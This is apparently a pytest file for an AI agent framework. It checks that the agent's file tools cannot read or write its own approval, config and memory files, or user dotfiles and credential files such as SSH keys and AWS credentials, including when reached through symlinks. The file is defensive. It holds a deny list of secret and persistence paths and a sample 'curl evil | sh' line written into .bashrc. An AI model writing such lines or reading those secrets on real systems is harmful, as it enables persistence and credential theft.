"""One reach definition: what wiring denies, and the file tools' checks over it.

The same `Reach` value goes to the bubblewrap sandbox (tests/services/test_sandbox_reach.py
and tests/cli/test_sandbox_e2e.py show a command seeing exactly this)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from seam.contracts.storage import AccessDenied, Reach
from seam.core import ScriptedModel
from seam.core.storage import ScopedStorage
from seam.services.storage.fs import FsStorage
from seam.wiring import create_runtime
from seam.wiring.reach import broad_working_dir, fs_deny
from seam.wiring.settings import load_settings

CONTROLS = (
    "approvals.json",
    "config.toml",
    "personalities/default/SOUL.md",
    "personalities/default/config.toml",
    "personalities/other/config.toml",
    "sessions.db",
    "sessions.db-wal",
    "sessions.db-shm",
    "pools/openai.json",
    "memory/MEMORY.md",
    "history",
)
DOTFILES = (
    ".bashrc",
    ".profile",
    ".zshrc",
    ".bash_profile",
    ".gitconfig",
    ".npmrc",
    ".pypirc",
    ".ssh/authorized_keys",
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".gnupg/pubring.kbx",
    ".netrc",
    ".config/autostart/evil.desktop",
    ".config/systemd/user/evil.service",
    ".config/anything.conf",
    ".local/bin/ls",
    ".local/share/keyrings/login.keyring",
    ".mozilla/firefox/profiles.ini",
)


def home_storage(tmp_path: Path, working: str) -> tuple[ScopedStorage, Path]:
    user = tmp_path / "user"
    (user / ".seam").mkdir(parents=True)
    settings = load_settings({"HOME": str(user)}, home=user / ".seam", working_dir=user)
    cwd = {"home": user, "seam_home": user / ".seam"}[working]
    storage = ScopedStorage(FsStorage(), working_dir=str(cwd), deny=fs_deny(settings))
    return storage, user


@pytest.mark.parametrize("working", ["home", "seam_home"])
async def test_file_tools_never_write_controls_or_dotfiles(tmp_path: Path, working: str) -> None:
    storage, user = home_storage(tmp_path, working)
    targets = [user / ".seam" / rel for rel in CONTROLS] + [user / rel for rel in DOTFILES]
    for target in targets:
        relative = os.path.relpath(target, storage.working_dir)  # ../.bashrc from .seam
        for path in (str(target), relative):
            with pytest.raises(AccessDenied, match="always denied"):
                await storage.write_text(path, "forged")
            with pytest.raises(AccessDenied, match="always denied"):
                await storage.read_text(path)
            assert not storage.reach.writable(os.path.normpath(storage.resolve(path)))
    assert not any(t.exists() for t in targets)


async def test_the_home_itself_stays_usable(tmp_path: Path) -> None:
    storage, user = home_storage(tmp_path, "home")
    await storage.write_text("notes.txt", "ok")
    await storage.write_text("project/src/main.py", "print()")
    assert (user / "notes.txt").read_text() == "ok"
    assert await storage.read_text(str(user / "project/src/main.py")) == "print()"


async def test_links_are_judged_by_name_and_by_target(tmp_path: Path) -> None:
    storage, user = home_storage(tmp_path, "home")
    (user / "dotfiles").mkdir()
    (user / "dotfiles" / "bashrc").write_text("# mine\n")
    (user / ".bashrc").symlink_to(user / "dotfiles" / "bashrc")
    (user / "innocent.txt").symlink_to(user / ".seam" / "approvals.json")
    with pytest.raises(AccessDenied, match=r"\.bashrc is always denied"):
        await storage.write_text(".bashrc", "curl evil | sh\n")
    with pytest.raises(AccessDenied, match=r"approvals\.json is always denied"):
        await storage.write_text("innocent.txt", "{}")
    assert (user / "dotfiles" / "bashrc").read_text() == "# mine\n"
    assert not (user / ".seam" / "approvals.json").exists()


def test_a_store_outside_seam_home_is_denied_too(tmp_path: Path) -> None:
    home = tmp_path / "seam"
    home.mkdir()
    (home / "config.toml").write_text(f'[store]\npath = "{tmp_path / "db" / "s.db"}"\n')
    settings = load_settings({"HOME": str(tmp_path / "user")}, home=home, working_dir=tmp_path)
    reach = Reach(read=(str(tmp_path),), write=(str(tmp_path),), deny=tuple(fs_deny(settings)))
    for name in ("s.db", "s.db-wal", "s.db-shm"):
        assert not reach.writable(str(tmp_path / "db" / name))
    assert reach.writable(str(tmp_path / "db" / "other.txt"))
    assert not reach.readable(str(home / "anything"))


async def test_the_runtime_hands_the_same_deny_list_to_every_session(tmp_path: Path) -> None:
    user = tmp_path / "user"
    user.mkdir()
    settings = load_settings({"HOME": str(user)}, home=user / ".seam", working_dir=user)
    runtime = create_runtime(settings=settings, model=ScriptedModel([]))
    try:
        personality = runtime.loop.personality_for(None)
        ctx = runtime.loop.tool_context("s", personality)
        reach = ctx.storage.reach  # type: ignore[attr-defined]
        assert str(user / ".seam") in reach.deny
        assert reach.writable(str(user / "notes.txt"))
        assert not reach.writable(str(user / ".seam" / "approvals.json"))
        assert not reach.writable(str(user / ".bashrc"))
    finally:
        await runtime.aclose()


def test_broad_working_dirs(tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path)}
    assert (
        broad_working_dir(tmp_path, env)
        == f"the working directory is your home directory ({tmp_path})"
    )
    assert broad_working_dir(Path("/"), env) == "the working directory is / (the whole machine)"
    assert broad_working_dir(tmp_path / "project", env) is None
